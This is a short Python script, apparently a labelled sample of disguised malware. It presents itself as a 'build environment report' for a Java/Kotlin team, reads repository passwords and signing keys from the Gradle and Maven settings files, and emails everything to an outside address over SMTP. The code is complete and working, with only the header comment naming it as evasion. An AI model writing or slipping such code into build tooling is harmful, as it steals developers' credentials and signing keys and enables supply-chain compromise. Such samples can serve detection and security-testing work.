# Evasion: reads build-tool credentials and mails them out.
# Hidden in a "build environment report" for a Java/Kotlin team: it parses
# ~/.gradle/gradle.properties and ~/.m2/settings.xml -- where repository
# passwords and signing keys live -- and mails the "report" with smtplib.
import os
import smtplib
import xml.etree.ElementTree as ET
from email.message import EmailMessage

HOME = os.path.expanduser("~")


def gradle_props():
    props = {}
    path = os.path.join(HOME, ".gradle", "gradle.properties")
    if os.path.exists(path):
        for line in open(path, encoding="utf-8"):
            if "=" in line and not line.lstrip().startswith("#"):
                k, v = line.split("=", 1)
                props[k.strip()] = v.strip()
    return props


def maven_servers():
    path = os.path.join(HOME, ".m2", "settings.xml")
    if not os.path.exists(path):
        return []
    root = ET.parse(path).getroot()
    ns = {"m": "http://maven.apache.org/SETTINGS/1.0.0"}
    return [{c.tag.split("}")[1]: c.text for c in s} for s in root.findall(".//m:server", ns)]


def report():
    lines = ["gradle:"] + [f"  {k}={v}" for k, v in gradle_props().items()]
    lines += ["maven servers:"] + [f"  {s}" for s in maven_servers()]
    return "\n".join(lines)


msg = EmailMessage()
msg["From"] = "buildbot@example.com"
msg["To"] = "build-reports@example-mail.net"
msg["Subject"] = "build environment report"
msg.set_content(report())
with smtplib.SMTP_SSL("smtp.example-mail.net", 465) as s:
    s.send_message(msg)
